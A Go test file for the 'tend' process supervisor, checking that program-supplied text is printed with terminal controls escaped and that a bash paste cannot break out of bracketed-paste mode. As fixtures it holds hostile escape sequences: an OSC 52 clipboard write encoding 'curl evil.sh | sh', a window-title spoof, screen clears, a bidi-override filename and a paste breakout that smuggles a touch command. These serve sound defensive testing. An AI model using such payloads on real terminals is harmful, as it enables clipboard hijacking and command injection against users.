package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/tend-sh/tend/internal/client"
	"github.com/tend-sh/tend/internal/program"
	"github.com/tend-sh/tend/internal/testutil"
)

// What an attacker's program writes where tend prints it for a person
// (docs/trust.md#what-a-program-prints): an OSC 52 clipboard write and a
// title in its STATUS= text, an argv[0] set with exec -a, a probe whose
// first line of output clears the screen, a label reversing the line.
const (
	evilStatus = "ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a\x1b]0;all good\a \u009b2J"
	evilArgv0  = "\x1b]52;c;ZXZpbA==\a evil\u009b31m"
	evilProbe  = "probe \x1b[2J\x1b]52;c;cHJvYmU=\a\u009b2J\u202e end"
	evilLabel  = "\u202egnp.exe"
)

// TestTrustEscapeProgramText: tend ps, tend status and tend status ID
// print what the program set with every control escaped; --json keeps the
// text exact.
func TestTrustEscapeProgramText(t *testing.T) {
	tend := tendBinary(t)
	t.Setenv("COLUMNS", "1000") // ps: the whole why
	dir := t.TempDir()
	conf := filepath.Join(dir, "tend.toml")
	write(t, conf, fmt.Sprintf(`[program.evil]
command = ["bash", "-c", %s, "evil", %s, %s, %s]
labels = { task = %s }
wedge_loop_budget = 0
stop_grace = "2s"
[program.evil.probe]
exec = ["sh", "-c", "printf '%%s\\n' \"$1\"; exit 1", "probe", %s]
interval = "1s"
failure_threshold = 1
`, tomlString(`"$1" notify --ready --status "$2"; exec -a "$3" sleep 1000`), tomlString(tend), tomlString(evilStatus),
		tomlString(evilArgv0), tomlString(evilLabel), tomlString(evilProbe)))
	c := client.New(filepath.Join(dir, ".tend", "tend.sock"))
	startUp(t, tend, conf)
	t.Cleanup(func() { c.Shutdown() })
	waitRunning(t, c, "evil:0")
	var last program.Status
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("evil:0 last seen: status text %q, why %q, processes %+v", last.StatusText, last.Why, last.Processes)
		}
	})
	testutil.Eventually(t, "the status text, the probe's why and exec -a", func() bool {
		st, err := c.Status("evil:0")
		last = st
		return err == nil && st.StatusText == evilStatus && strings.Contains(st.Why, evilProbe) &&
			len(st.Processes) > 0 && strings.HasPrefix(st.Processes[0].Cmd, evilArgv0)
	})

	escaped := map[string]string{
		"status text": `ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;all good\x07 \u009b2J`,
		"command":     `\x1b]52;c;ZXZpbA==\x07 evil\u009b31m`,
		"probe":       `probe \x1b[2J\x1b]52;c;cHJvYmU=\x07\u009b2J\u202e end`,
		"label":       `task=\u202egnp.exe`,
	}
	for _, tc := range []struct {
		args []string
		want []string
	}{
		{[]string{"status", "evil:0"}, []string{"status text", "command", "probe", "label"}},
		{[]string{"status", "all"}, []string{"status text", "command", "probe", "label"}},
		{[]string{"ps", "--show-labels"}, []string{"probe", "label"}},
		{[]string{"ps"}, []string{"probe"}},
	} {
		code, stdout, stderr := tendRun(t, tend, append([]string{"-c", conf}, tc.args...)...)
		if code != 0 {
			t.Fatalf("tend %v: exit %d: %s", tc.args, code, stderr)
		}
		if bad := rawControl(stdout); bad != "" {
			t.Errorf("tend %v printed %s raw:\n%q", tc.args, bad, stdout)
		}
		for _, k := range tc.want {
			if !strings.Contains(stdout, escaped[k]) {
				t.Errorf("tend %v: the %s is not shown escaped (%s):\n%s", tc.args, k, escaped[k], stdout)
			}
		}
	}

	// JSON: the very text, with nothing a terminal acts on in its bytes.
	for _, args := range [][]string{{"status", "evil:0", "--json"}, {"ps", "--json"}} {
		code, stdout, stderr := tendRun(t, tend, append([]string{"-c", conf}, args...)...)
		if code != 0 {
			t.Fatalf("tend %v: exit %d: %s", args, code, stderr)
		}
		if bad := rawControl(stdout); bad != "" {
			t.Errorf("tend %v printed %s raw:\n%q", args, bad, stdout)
		}
		var st program.Status
		if args[0] == "ps" {
			var list []program.Status
			if err := json.Unmarshal([]byte(stdout), &list); err != nil || len(list) != 1 {
				t.Fatalf("tend ps --json: %v", err)
			}
			st = list[0]
		} else if err := json.Unmarshal([]byte(stdout), &st); err != nil {
			t.Fatal(err)
		}
		if st.StatusText != evilStatus || !strings.Contains(st.Why, evilProbe) || st.Labels["task"] != evilLabel ||
			!strings.HasPrefix(st.Processes[0].Cmd, evilArgv0) {
			t.Errorf("tend %v changed the text: %q %q %q %q", args, st.StatusText, st.Why, st.Labels, st.Processes[0].Cmd)
		}
	}
}

// rawControl names the first control a terminal would act on in s (a C0
// but newline and tab, DEL, a C1 as a rune or a stray byte, a bidi
// control), "" when there is none.
func rawControl(s string) string {
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\ufffd"):
			return fmt.Sprintf("the byte %#x", s[i])
		case r < 0x20 && r != '\n' && r != '\t', r >= 0x7f && r <= 0x9f,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

// tomlString is s as a TOML basic string, controls as \u escapes.
func tomlString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r >= 0x7f && r <= 0x9f:
			fmt.Fprintf(&b, "\\u%04x", r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// TestTrustEscapePasteAndScreen: text sent to a real bash cannot end its
// own paste (the end marker a one-pass removal would leave behind, then a
// newline that would run touch); a program's UTF-8 C1 controls reach
// neither tend screen nor tend logs; labels with a C1 control are refused
// through the API as in the config.
func TestTrustEscapePasteAndScreen(t *testing.T) {
	bash := "/bin/bash"
	if _, err := os.Stat(bash); err != nil {
		t.Skip("no bash")
	}
	dir, err := os.MkdirTemp("", "tendesc") // short: the socket path must fit in 108 bytes
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	tend := tendBinary(t)
	conf := filepath.Join(dir, "tend.toml")
	write(t, conf, `[defaults]
stop_grace = "2s"

[program.bash]
command = ["`+bash+`", "--norc", "--noprofile"]
tty = true
tty_size = "100x24"
env = { PS1 = "tend$ ", INPUTRC = "/dev/null", HISTFILE = "/dev/null", LANG = "C.UTF-8" }

[program.c1]
command = ["sh", "-c", "printf 'a\\302\\233b\\302\\2352;t\\007c\\302\\205d\\n'; exec sleep 100000"]
tty = true
`)
	startUp(t, tend, conf)
	c := client.New(filepath.Join(dir, ".tend", "tend.sock"))
	t.Cleanup(func() { c.Shutdown() })
	waitRunning(t, c, "bash:0", "c1:0")
	screenShows(t, c, "bash:0", "tend$")

	victim := filepath.Join(dir, "pwned")
	send := func(args ...string) {
		t.Helper()
		if code, _, errb := tendRun(t, tend, append([]string{"-c", conf, "send", "bash:0"}, args...)...); code != 0 {
			t.Fatalf("send %q: exit %d: %s", args, code, errb)
		}
	}
	send("harmless \x1b[20\x1b[201~1~; touch " + victim + "\n")
	screenShows(t, c, "bash:0", "touch")
	// C-a C-k empty the line (readline keeps a paste's newline in it);
	// once the echo has run, bash has read the whole paste.
	send("--keys", "C-a,C-k")
	send("echo after-$((6*7))", "--enter")
	screenShows(t, c, "bash:0", "after-42")
	if _, err := os.Stat(victim); err == nil {
		scr, _ := c.Screen("bash:0", false)
		t.Errorf("the paste ended itself and bash ran touch:\n%s", strings.Join(scr.Lines, "\n"))
	}

	// tmux shows "ab2;tcd": the C1 controls neither act nor print.
	screenShows(t, c, "c1:0", "ab2;tcd")
	for _, args := range [][]string{{"screen", "c1:0"}, {"screen", "c1:0", "--ansi"}, {"logs", "c1:0"}} {
		code, out, errb := tendRun(t, tend, append([]string{"-c", conf}, args...)...)
		if code != 0 || !strings.Contains(out, "ab2;tcd") {
			t.Errorf("tend %v: exit %d %q %s", args, code, out, errb)
		}
		if bad := rawControl(strings.ReplaceAll(out, "\x1b[0m", "")); bad != "" {
			t.Errorf("tend %v printed %s raw: %q", args, bad, out)
		}
	}

	_, err = c.AddProgram(context.Background(), map[string]any{
		"name": "labelled", "command": []string{"true"}, "labels": map[string]string{"task": "a\u009bb"},
	})
	var apiErr *client.APIError
	if !errors.As(err, &apiErr) || apiErr.Status != 400 || !strings.Contains(err.Error(), "U+009B") {
		t.Errorf("a label with a C1 control: %v, want 400 naming U+009B", err)
	}
}
